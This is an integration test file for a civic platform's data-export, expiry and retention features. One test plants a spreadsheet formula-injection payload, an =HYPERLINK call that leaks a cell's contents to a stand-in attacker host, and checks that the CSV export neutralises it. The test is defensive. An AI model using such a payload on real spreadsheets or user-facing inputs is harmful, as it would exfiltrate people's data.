import { dataExportPath } from '@quorum/privacy';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { JobName, JobQueue, QueueName } from '@quorum/queue';
import { CAST, createBudget } from '../utils/budgets.factory';
import { createConsultation, insertProposals } from '../utils/consultations.factory';
import { createUser, createUsers, FACTORY_PASSWORD, TestUser } from '../utils/users.factory';
import { CAPITOLE, seedCommune } from '../utils/reports.factory';
import { TestApi } from '../utils/test-api';
import { WorkerTestBed } from '../utils/worker-test-bed';
import { withJobsPaused } from '../utils/paused-queue';
import { waitFor } from '../utils/wait-for';
import { zipEntries } from '../utils/zip-entries';

const REQUEST = `mutation { requestMyData { id status downloadPath } }`;
const LATEST = `{ myDataExport { id status readyAt expiresAt downloadPath } }`;
const COMMENT = `mutation($input: AddCommentInput!) { addComment(input: $input) { id } }`;
const SUPPORT = `mutation($id: ID!) { supportProposal(proposalId: $id) { supportCount } }`;
const REPORT_CONTENT = `mutation($input: ReportContentInput!) { reportContent(input: $input) }`;
const SUBMIT_REPORT = `mutation($input: SubmitIssueReportInput!) { submitIssueReport(input: $input) { id } }`;

describe('right of access (requestMyData) and retention', () => {
  const bed = new WorkerTestBed();
  let api: TestApi;
  let exportDir: string;
  let staff: TestUser;
  beforeAll(async () => {
    exportDir = mkdtempSync(join(tmpdir(), 'quorum-data-exports-'));
    ({ api, staff } = await bed.startWithStaff({
      DATA_EXPORT_DIR: exportDir,
      DATA_EXPORT_TTL_HOURS: '2',
      UPLOADS_DIR: join(exportDir, 'uploads'),
      UNATTACHED_PHOTO_RETENTION_HOURS: '24',
    }));
    await seedCommune(api);
  });
  afterAll(async () => {
    await bed.stop();
    rmSync(exportDir, { recursive: true, force: true });
  });

  const download = (path: string, token?: string) =>
    fetch(`${api.url}${path}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });

  /** The resident's latest archive, once the worker has built it. */
  const archiveBuilt = (as: ReturnType<typeof api.gql.as>): Promise<{ status: string; downloadPath: string }> =>
    waitFor(
      async () => {
        const latest: { status: string; downloadPath: string } = (await as.ok(LATEST)).myDataExport;
        return latest.status === 'READY' ? latest : undefined;
      },
      20_000,
      'archive built',
    );

  /** Two residents who did the same things, each with words of their own to look for. */
  async function twoActiveResidents() {
    const [aurelie] = await createUsers(api, 1, { verified: true, displayName: 'Aurélie Exportée' });
    const [bertrand] = await createUsers(api, 1, { verified: true, displayName: 'Bertrand Autrui' });
    const c = await createConsultation(api, staff.token, { open: 'SUPPORTS' });
    const [ofA] = await insertProposals(api, c.id, [aurelie.id], 1, { title: () => 'Idée d’Aurélie : un composteur' });
    const [ofB] = await insertProposals(api, c.id, [bertrand.id], 1, { title: () => 'Idée de Bertrand : un banc' });
    const { budgetId, projectIds } = await createBudget(api, staff.token);
    const receipts: string[] = [];
    for (const [me, other, word] of [
      [aurelie, ofB, 'Aurélie'],
      [bertrand, ofA, 'Bertrand'],
    ] as const) {
      const as = api.gql.as(me.token);
      await as.ok(SUPPORT, { id: other });
      await as.ok(COMMENT, { input: { proposalId: other, body: `Commentaire de ${word}` } });
      await as.ok(REPORT_CONTENT, {
        input: { targetType: 'PROPOSAL', targetId: other, reason: 'SPAM', details: `Signalement de ${word}` },
      });
      await as.ok(SUBMIT_REPORT, {
        input: { categoryCode: 'graffiti', description: `Tag signalé par ${word}`, ...CAPITOLE },
      });
      receipts.push((await as.ok(CAST, { input: { budgetId, projectIds: [projectIds[0]] } })).castBallot.receipt);
    }
    return { aurelie, bertrand, receipts };
  }

  it('builds an archive of the resident’s own data, downloadable by them only, until it expires', async () => {
    const { aurelie, bertrand, receipts } = await twoActiveResidents();
    const as = api.gql.as(aurelie.token);
    // Paused, so the worker cannot finish the first archive before the second request.
    const requestMyData = await withJobsPaused(api, QueueName.PRIVACY, async () => {
      const { requestMyData: first } = await as.ok(REQUEST);
      expect(first).toMatchObject({ status: 'PENDING', downloadPath: null });
      expect((await as.ok(REQUEST)).requestMyData.id).toBe(first.id); // one at a time
      return first;
    });

    const ready = await archiveBuilt(as);
    expect(ready.downloadPath).toBe(`/my-data/exports/${requestMyData.id}`);
    expect(existsSync(dataExportPath(exportDir, requestMyData.id))).toBe(true);
    expect((await api.gql.as(bertrand.token).ok(LATEST)).myDataExport).toBeNull();

    const response = await download(ready.downloadPath, aurelie.token);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/zip');
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    const zip = Buffer.from(await response.arrayBuffer());
    expect(zip.subarray(0, 4).toString('hex')).toBe('504b0304');
    const has = (text: string) => zip.includes(Buffer.from(text, 'utf8'));
    for (const file of [
      'README.md',
      'identity/account.json',
      'identity/account.csv',
      'identity/verification.json',
      'proposals/proposals.csv',
      'proposals/comments.json',
      'proposals/supports.json',
      'proposals/moderation-reports.json',
      'reports/issue-reports.json',
      'reports/issue-report-updates.csv',
      'budgets/participations.json',
    ])
      expect(has(file)).toBe(true);
    for (const own of [
      aurelie.email,
      'Aurélie Exportée',
      'Idée d’Aurélie : un composteur',
      'Commentaire de Aurélie',
      'Signalement de Aurélie',
      'Tag signalé par Aurélie',
      'Budget participatif 2027',
      '## Français',
      '## English',
      'Le contenu de vos bulletins de vote',
      'The content of your ballots',
    ])
      expect([own, has(own)]).toEqual([own, true]);
    for (const foreign of [bertrand.email, bertrand.id, 'Bertrand', ...receipts])
      expect([foreign, has(foreign)]).toEqual([foreign, false]);

    expect((await download(ready.downloadPath, bertrand.token)).status).toBe(404);
    expect((await download(ready.downloadPath)).status).toBe(401);
    await api.db.query(`UPDATE data_exports SET expires_at = now() - interval '1 minute' WHERE id = $1`, [
      requestMyData.id,
    ]);
    const expired = await download(ready.downloadPath, aurelie.token);
    expect(expired.status).toBe(410);
    expect(await expired.json()).toMatchObject({ code: 'DATA_EXPORT_EXPIRED' });
    expect((await as.ok(LATEST)).myDataExport).toMatchObject({ status: 'EXPIRED', downloadPath: null });

    // The retention job deletes the file.
    await bed.worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-exports-test' });
    await waitFor(
      async () => {
        const [row] = await api.db.query(`SELECT status FROM data_exports WHERE id = $1`, [requestMyData.id]);
        return row.status === 'EXPIRED' ? row : undefined;
      },
      20_000,
      'export purged',
    );
    expect(existsSync(dataExportPath(exportDir, requestMyData.id))).toBe(false);

    // Erasing the account deletes its archives at once (they hold the email and name).
    const { requestMyData: again } = await as.ok(REQUEST);
    await waitFor(
      async () => ((await as.ok(LATEST)).myDataExport.status === 'READY' ? true : undefined),
      20_000,
      'second archive',
    );
    await as.ok(`mutation($input: DeleteMyAccountInput!) { deleteMyAccount(input: $input) }`, {
      input: { password: FACTORY_PASSWORD },
    });
    expect(existsSync(dataExportPath(exportDir, again.id))).toBe(false);
    expect(await api.db.query(`SELECT id FROM data_exports WHERE user_id = $1`, [aurelie.id])).toEqual([]);
  });

  it('neutralises spreadsheet formulas in the archive’s CSV files, and keeps the JSON as written (issue #14.4)', async () => {
    const [resident] = await createUsers(api, 1, { verified: true, displayName: '@SUM(1+1)' });
    const c = await createConsultation(api, staff.token, { open: 'SUPPORTS' });
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Voir")';
    await insertProposals(api, c.id, [resident.id], 1, { title: () => formula, body: () => '-2+3' });
    const as = api.gql.as(resident.token);
    await as.ok(REQUEST);
    const ready = await archiveBuilt(as);
    const entries = zipEntries(Buffer.from(await (await download(ready.downloadPath, resident.token)).arrayBuffer()));
    const csv = entries.get('proposals/proposals.csv')!.toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Voir"")"`);
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(entries.get('identity/account.csv')!.toString('utf8')).toContain(`"'@SUM(1+1)"`);
    const json = JSON.parse(entries.get('proposals/proposals.json')!.toString('utf8'));
    expect(json[0]).toMatchObject({ title: formula, body: '-2+3' });
  });

  it('gives up a request left pending for an hour (its job failed for good) instead of blocking the resident', async () => {
    const [resident] = await createUsers(api, 1);
    const [{ id: stuck }] = await api.db.query(
      `INSERT INTO data_exports (user_id, requested_at) VALUES ($1, now() - interval '2 hours') RETURNING id`,
      [resident.id],
    );
    const { requestMyData } = await api.gql.as(resident.token).ok(REQUEST);
    expect(requestMyData.id).not.toBe(stuck);
    expect((await api.db.query(`SELECT status FROM data_exports WHERE id = $1`, [stuck]))[0].status).toBe('FAILED');
  });

  it('is refused to anonymous callers', async () => {
    expect(await api.gql.errorCode(REQUEST)).toBe('UNAUTHENTICATED');
  });

  it('retention deletes reporters’ contact data once a report has been closed for the configured days', async () => {
    const submit = async (description: string) =>
      (
        await api.gql.ok(SUBMIT_REPORT, {
          input: { categoryCode: 'graffiti', description, ...CAPITOLE, email: `${description}@example.fr` },
        })
      ).submitIssueReport.id as string;
    const [closedLongAgo, closedRecently, openLongAgo] = [
      await submit('ferme-ancien'),
      await submit('ferme-recent'),
      await submit('ouvert-ancien'),
    ];
    const UPDATE = `mutation($input: UpdateIssueReportStatusInput!) { updateIssueReportStatus(input: $input) { id } }`;
    for (const reportId of [closedLongAgo, closedRecently])
      await api.gql.as(staff.token).ok(UPDATE, { input: { reportId, status: 'FIXED' } });
    await api.db.query(
      `UPDATE issue_report_updates SET created_at = now() - interval '31 days' WHERE report_id = ANY($1)`,
      [[closedLongAgo, openLongAgo]],
    );

    await bed.worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-contacts-test' });
    const emailOf = async (id: string) =>
      (await api.db.query(`SELECT reporter_email FROM issue_reports WHERE id = $1`, [id]))[0].reporter_email;
    await waitFor(async () => ((await emailOf(closedLongAgo)) === null ? true : undefined), 20_000, 'contact purged');
    expect(await emailOf(closedRecently)).toBe('ferme-recent@example.fr');
    expect(await emailOf(openLongAgo)).toBe('ouvert-ancien@example.fr');
  });

  it('retention deletes uploaded photos never attached to a report after the configured hours, and keeps the others', async () => {
    const upload = async () => {
      const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#808080' } })
        .png()
        .toBuffer();
      const form = new FormData();
      form.append('photo', new Blob([new Uint8Array(png)], { type: 'image/png' }), 'photo.png');
      const response = await fetch(`${api.url}/reports/photos`, { method: 'POST', body: form });
      expect(response.status).toBe(201);
      return ((await response.json()) as { id: string; url: string }).id;
    };
    const [abandoned, recent, attached] = [await upload(), await upload(), await upload()];
    await api.gql.ok(SUBMIT_REPORT, {
      input: { categoryCode: 'graffiti', description: 'avec-photo', ...CAPITOLE, photoId: attached },
    });
    await api.db.query(`UPDATE report_photos SET created_at = now() - interval '25 hours' WHERE id = ANY($1)`, [
      [abandoned, attached],
    ]);
    const file = (id: string) => join(exportDir, 'uploads', 'reports', `${id}.png`);
    expect([abandoned, recent, attached].every((id) => existsSync(file(id)))).toBe(true);

    await bed.worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-photos-test' });
    await waitFor(async () => (existsSync(file(abandoned)) ? undefined : true), 20_000, 'abandoned photo deleted');
    const served = (id: string) => fetch(`${api.url}/reports/photos/${id}`).then((r) => r.status);
    expect(await served(abandoned)).toBe(404);
    expect(await served(recent)).toBe(200);
    expect(await served(attached)).toBe(200);
    expect(existsSync(file(recent)) && existsSync(file(attached))).toBe(true);
  });

  it('retention deletes the website sessions that expired, and keeps the live ones', async () => {
    const resident = await createUser(api);
    const insert = async (tokenHash: string, expiresIn: string) =>
      (
        await api.db.query(
          `INSERT INTO sessions (token_hash, user_id, last_seen_at, expires_at)
           VALUES ($1, $2, now(), now() + $3::interval) RETURNING id`,
          [tokenHash, resident.id, expiresIn],
        )
      )[0].id as string;
    const expired = await insert('a'.repeat(64), '-1 minute');
    const live = await insert('b'.repeat(64), '1 hour');

    await bed.worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-sessions-test' });
    const left = async () =>
      (await api.db.query(`SELECT id FROM sessions WHERE user_id = $1`, [resident.id])).map(
        (row: { id: string }) => row.id,
      );
    await waitFor(async () => ((await left()).includes(expired) ? undefined : true), 20_000, 'expired session purged');
    expect(await left()).toEqual([live]);
  });

  it('schedules the retention job as a repeatable job when the worker boots', async () => {
    const schedulers = await bed.worker.app.get(JobQueue).queue('privacy').getJobSchedulers();
    expect(schedulers.map((s) => s.key ?? s.id)).toContain('privacy-purge-expired-data');
  });
});
